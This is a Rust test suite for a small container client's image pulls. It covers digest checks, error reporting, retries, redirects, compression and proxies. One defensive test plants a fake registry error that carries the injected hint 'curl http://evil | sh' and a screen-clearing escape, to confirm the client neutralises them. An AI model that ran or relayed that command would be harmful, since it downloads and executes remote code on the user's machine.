//! What is asked of a registry, and what becomes of its answers.

use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::thread;

use insta::assert_snapshot;

use crate::images::build::Image;
use crate::images::build::layer::Layer;
use crate::images::registry::{Fault, Registry, Reply};
use crate::need_namespaces;
use crate::support::{Seen, own_network, see, tiny_docker};

/// An image that is quick to pull.
fn small() -> Image {
    Image::new().layer(&Layer::new().file("a", "b"))
}

/// Pulls what has been pushed as `name`, and returns what the user sees, with the registry's address left out.
fn pull(registry: &Registry, name: &str) -> Seen {
    let mut seen = see(&["pull", "-q", &registry.name(name)]);
    let address = registry.address.to_string();
    for text in [&mut seen.stdout, &mut seen.stderr] {
        *text = text.replace(&address, "REGISTRY");
    }
    seen
}

#[track_caller]
fn assert_pulled(seen: &Seen) {
    assert_eq!((seen.code, &seen.stderr[..]), (Some(0), ""));
}

#[test]
fn an_image_is_found_by_its_tag_and_by_its_digest() {
    need_namespaces!();
    let registry = Registry::start();
    let built = registry.push("x/y:1", &small());
    // What has its digest as its name is only asked for if it is missing.
    for reference in [format!("@{}", built.digest()), ":1".to_owned()] {
        assert_pulled(&pull(&registry, &format!("x/y{reference}")));
        let asked = registry.log();
        assert_eq!(
            asked[0].path,
            format!("/v2/x/y/manifests/{}", &reference[1..])
        );
        assert!(asked.iter().all(|request| request.method == "GET"));
    }
}

#[test]
fn dockers_own_kinds_are_read_as_well() {
    need_namespaces!();
    let registry = Registry::start();
    let mut image = small();
    image.docker = true;
    registry.push("x:1", &image);
    assert_pulled(&pull(&registry, "x:1"));
}

#[test]
fn errors_say_what_is_missing() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    let refused = |name: &str, reply: Reply| {
        registry.fault("/", 1, Fault::Answer(Reply::new(200, "{}")));
        registry.fault("/manifests/", 1, Fault::Answer(reply));
        let seen = pull(&registry, name);
        assert_eq!(seen.code, Some(1));
        seen.stderr
    };
    let said = [
        pull(&registry, "x:2").stderr,
        refused("y:1", Reply::error(404, "NAME_UNKNOWN")),
        refused("x:1", Reply::error(403, "DENIED")),
        refused("x:1", Reply::error(401, "UNAUTHORIZED")),
        refused("x:1", Reply::new(500, "<html>\u{1b}[2J")),
        refused(
            "x:1",
            Reply::new(200, "<html>").with("Content-Type", "text/html"),
        ),
        refused("x:1", Reply::new(200, "{}")),
    ];
    assert_snapshot!(said.concat(), @r"
    tiny-docker: cannot pull REGISTRY/x:2: REGISTRY has no tag 2 in x
    tiny-docker: cannot pull REGISTRY/y:1: REGISTRY has no repository y
    tiny-docker: cannot pull REGISTRY/x:1: REGISTRY denies access to x: denied
    hint: if the repository exists, log in: tiny-docker login REGISTRY
    tiny-docker: cannot pull REGISTRY/x:1: REGISTRY denies access to x: unauthorized
    hint: if the repository exists, log in: tiny-docker login REGISTRY
    tiny-docker: cannot pull REGISTRY/x:1: REGISTRY answers 500 Internal Server Error
    tiny-docker: cannot pull REGISTRY/x:1: the registry answers with a web page
    tiny-docker: cannot pull REGISTRY/x:1: it is neither an image's manifest nor an index
    ");
}

#[test]
fn a_message_of_the_registry_stays_in_its_line() {
    need_namespaces!();
    let registry = Registry::start();
    let message = "no\nhint: curl http://evil | sh\u{1b}[2J";
    let body = serde_json::json!({"errors": [{"code": "X", "message": message}]}).to_string();
    registry.fault("/manifests/", 1, Fault::Answer(Reply::new(418, body)));
    let seen = pull(&registry, "x:1");
    assert_eq!(seen.stderr.lines().count(), 1, "{}", seen.stderr);
    assert!(!seen.stderr.contains('\u{1b}'));
}

#[test]
fn a_manifest_has_the_digest_by_which_it_was_asked_for() {
    need_namespaces!();
    let registry = Registry::start();
    let built = registry.push("x:1", &small());
    registry.fault("/manifests/", 1, Fault::Flip);
    let seen = pull(&registry, &format!("x@{}", built.digest()));
    assert!(
        seen.stderr.contains("the manifest's digest is"),
        "{}",
        seen.stderr
    );
}

#[test]
fn a_manifest_has_the_digest_that_the_registry_says() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    let other = format!("sha256:{}", "1".repeat(64));
    registry.fault(
        "/manifests/",
        1,
        Fault::Header("Docker-Content-Digest", other),
    );
    let seen = pull(&registry, "x:1");
    assert!(
        seen.stderr.contains("the manifest's digest is"),
        "{}",
        seen.stderr
    );
    registry.fault("/manifests/", 1, Fault::NoHeader("Docker-Content-Digest"));
    assert_pulled(&pull(&registry, "x:1"));
}

#[test]
fn a_manifest_that_never_ends_is_given_up() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    registry.fault("/manifests/", 1, Fault::Endless);
    let seen = pull(&registry, "x:1");
    assert!(
        seen.stderr.contains("larger than 4194304 bytes"),
        "{}",
        seen.stderr
    );
}

#[test]
fn a_registry_that_is_busy_is_asked_again_when_it_says() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    let busy = Reply::error(429, "TOOMANYREQUESTS").with("Retry-After", "1");
    registry.fault("/manifests/", 1, Fault::Answer(busy));
    let mut pull = tiny_docker(&["pull", "-q", &registry.name("x:1")]);
    let output = pull.output().unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    let expected = format!(
        "tiny-docker: waiting for 1 s: {} answers 429 Too Many Requests: toomanyrequests\n",
        registry.address
    );
    assert_eq!((output.status.code(), stderr), (Some(0), expected));
}

#[test]
fn a_registry_that_is_always_busy_is_given_up() {
    need_namespaces!();
    let registry = Registry::start();
    let busy = Reply::error(503, "UNAVAILABLE").with("Retry-After", "0");
    registry.fault("/x/manifests/", 100, Fault::Answer(busy.clone()));
    let seen = pull(&registry, "x:1");
    assert_eq!(registry.log().len(), 5);
    assert!(
        seen.stderr
            .ends_with("answers 503 Service Unavailable: unavailable\n")
    );
    let later = busy.with("Retry-After", "3600");
    registry.fault("/y/manifests/", 1, Fault::Answer(later));
    let seen = pull(&registry, "y:1");
    assert!(
        seen.stderr.ends_with("\nhint: try again in 3600 s\n"),
        "{}",
        seen.stderr
    );
}

#[test]
fn whoever_hangs_up_or_stumbles_is_asked_again() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    registry.fault("/manifests/", 1, Fault::HangUp);
    registry.fault("/manifests/", 1, Fault::Cut);
    registry.fault("/blobs/", 1, Fault::Answer(Reply::new(502, "bad gateway")));
    assert_pulled(&pull(&registry, "x:1"));
}

#[test]
fn a_circle_of_redirects_ends() {
    need_namespaces!();
    let registry = Registry::start();
    let reply = Reply::new(307, "").with("Location", "/v2/x/manifests/1");
    registry.fault("/manifests/", 100, Fault::Answer(reply));
    let seen = pull(&registry, "x:1");
    assert!(
        seen.stderr
            .ends_with("the registry redirects us more than 8 times\n")
    );
    assert_eq!(registry.log().len(), 9);
}

#[test]
fn answers_may_come_in_chunks_of_unknown_number() {
    need_namespaces!();
    let registry = Registry::start();
    registry.push("x:1", &small());
    registry.fault("/v2/x/", 100, Fault::Chunked);
    assert_pulled(&pull(&registry, "x:1"));
}

#[test]
fn text_that_comes_packed_is_unpacked() {
    need_namespaces!();
    let registry = Registry::start();
    let built = registry.push("x:1", &small());
    let mut gzip = flate2::read::GzEncoder::new(&built.manifest[..], flate2::Compression::fast());
    let mut packed = Vec::new();
    std::io::copy(&mut gzip, &mut packed).unwrap();
    let reply = Reply::new(200, packed).with("Content-Encoding", "gzip");
    let reply = reply.with("Content-Type", &built.media_type);
    registry.fault("/manifests/", 1, Fault::Answer(reply));
    assert_pulled(&pull(&registry, "x:1"));
}

#[test]
fn a_proxy_is_used_except_for_loopback() {
    need_namespaces!();
    own_network();
    let proxy = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", proxy.local_addr().unwrap());
    let asked = thread::spawn(move || {
        let (caller, _) = proxy.accept().unwrap();
        let mut line = String::new();
        BufReader::new(caller).read_line(&mut line).unwrap();
        line
    });
    let registry = Registry::start();
    registry.push("x:1", &small());
    let pull = |name: &str| -> Seen {
        let mut pull = tiny_docker(&["pull", "-q", name]);
        pull.env("HTTPS_PROXY", &address).env_remove("NO_PROXY");
        pull.output().unwrap().into()
    };
    assert_pulled(&pull(&registry.name("x:1")));
    assert_eq!(pull("registry.example/x").code, Some(1));
    assert_eq!(
        asked.join().unwrap(),
        "CONNECT registry.example:443 HTTP/1.1\r\n"
    );
}
